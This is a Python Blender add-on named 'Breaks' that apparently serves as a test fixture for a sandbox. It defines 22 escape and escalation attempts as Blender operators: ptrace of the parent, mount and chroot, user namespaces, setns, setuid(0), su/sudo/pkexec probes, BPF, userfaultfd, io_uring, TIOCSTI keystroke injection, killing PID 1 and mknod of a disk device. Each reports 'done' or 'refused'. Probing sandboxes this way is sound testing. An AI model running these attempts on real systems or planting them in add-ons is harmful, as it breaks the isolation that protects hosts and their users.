# ruff: noqa
"""An add-on that tries to get out by what the kernel offers."""

bl_info = {"name": "Breaks", "blender": (2, 80, 0), "version": (1, 0, 0), "category": "Object"}

import ctypes
import fcntl
import os
import platform
import resource
import signal
import subprocess

import bpy

from .operators import operators

LIBC = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
NEWNS, NEWUSER = 0x20000, 0x10000000


def _call(number, number_arm, *arguments):
    """A system call by its number; what it says as an exception."""
    LIBC.syscall.restype = ctypes.c_long
    given = [ctypes.c_long(argument) if isinstance(argument, int) else argument for argument in arguments]
    answer = LIBC.syscall(ctypes.c_long(number_arm if ARM else number), *given)
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"done: {answer}"


def trace_the_parent():
    """PTRACE_ATTACH, then its memory is ours."""
    return _call(101, 117, 16, os.getppid(), 0, 0)


def mount():
    """A filesystem over another."""
    return _call(165, 40, ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"tmpfs"), 0, 0)


def bind():
    """The new way to mount."""
    return _call(428, 428, -100, ctypes.c_char_p(b"/"), 1)


def change_root():
    """The old way out of a cage."""
    os.chroot("/tmp")
    return "done"


def user_namespace():
    """Be root in a world of one's own, with far more of the kernel in reach."""
    return _call(272, 97, NEWUSER)


def user_namespace_with_clone():
    """The same as a child."""
    pid = LIBC.syscall(ctypes.c_long(220 if ARM else 56), ctypes.c_long(NEWUSER | 17), 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0)
    return "done"


def with_the_tool():
    """The same with the system's own program."""
    ended = subprocess.run(["unshare", "--user", "--map-root-user", "true"], capture_output=True, text=True)
    return "done" if ended.returncode == 0 else f"refused: {ended.stderr.strip()}"


def join_the_parent():
    """Into the namespaces of whoever started it."""
    descriptor = os.open(f"/proc/{os.getppid()}/ns/mnt", os.O_RDONLY)
    return _call(308, 268, descriptor, NEWNS)


def become_root():
    """By number."""
    os.setuid(0)
    return "done"


def setuid_programs():
    """Programs that run as root whoever starts them."""
    done = []
    for program in (["su", "-c", "id"], ["sudo", "-n", "id"], ["pkexec", "id"], ["newgrp", "root"]):
        try:
            ended = subprocess.run(program, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if "uid=0" in ended.stdout or program[0] == "newgrp" and ended.returncode == 0:
            done.append(program[0])
    return f"done: {done}" if done else "refused by all"


def keys():
    """The kernel's ring of keys is shared by all of a user's processes."""
    return _call(250, 219, 0, -3, 1)


def profile():
    """Counters that see the whole machine."""
    attributes = ctypes.create_string_buffer(b"\x01\0\0\0\x78\0\0\0" + bytes(112))
    return _call(298, 241, attributes, -1, 0, -1, 0)


def programs_in_the_kernel():
    """BPF_MAP_CREATE."""
    return _call(321, 280, 0, ctypes.create_string_buffer(b"\x02\0\0\0\4\0\0\0\4\0\0\0\1\0\0\0" + bytes(112)), 128)


def faults_by_hand():
    """The favourite of those who win races in the kernel."""
    return _call(323, 282, 1)


def rings():
    """io_uring: system calls no filter sees."""
    return _call(425, 425, 8, ctypes.create_string_buffer(120))


def handles():
    """Files by number instead of by name."""
    return _call(304, 265, -100, ctypes.create_string_buffer(64), 0)


def type_for_the_user():
    """TIOCSTI: letters into the terminal bcrag was started from."""
    for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
        try:
            descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
            fcntl.ioctl(descriptor, 0x5412, b"x")
        except OSError:
            continue
        return f"done: {path}"
    master, _ = os.openpty()
    fcntl.ioctl(master, 0x5412, b"x")
    return "done on a terminal of its own"


def raise_limits():
    """More of everything."""
    done = []
    for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            done.append(limit)
        except (OSError, ValueError):
            continue
    return f"done: {done}" if done else "refused for all"


def crash_reporter():
    """A crash is handed to a program that runs as root on the machine; the limit that prevents it, lowered."""
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    return "done"


def kill_the_first():
    """Without its first process the sandbox would be gone."""
    os.kill(1, signal.SIGKILL)
    os.kill(1, signal.SIGTERM)
    with open("/proc/1/comm", encoding="utf-8") as stream:
        return f"refused: {stream.read().strip()} still runs"


def devices():
    """A device file of one's own."""
    os.mknod("/tmp/disk", 0o600 | 0o60000, os.makedev(254, 0))
    return "done"


def schedule():
    """Ahead of everybody."""
    done = []
    for attempt in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):
        try:
            attempt()
            done.append("one")
        except OSError:
            continue
    return f"done: {done}" if done else "refused"


ATTACKS = (
    trace_the_parent, mount, bind, change_root, user_namespace, user_namespace_with_clone, with_the_tool,
    join_the_parent, become_root, setuid_programs, keys, profile, programs_in_the_kernel, faults_by_hand, rings,
    handles, type_for_the_user, raise_limits, crash_reporter, kill_the_first, devices, schedule,
)  # fmt: skip

CLASSES = operators("breaks", ATTACKS)


def register():
    for cls in CLASSES:
        bpy.utils.register_class(cls)


def unregister():
    for cls in reversed(CLASSES):
        bpy.utils.unregister_class(cls)
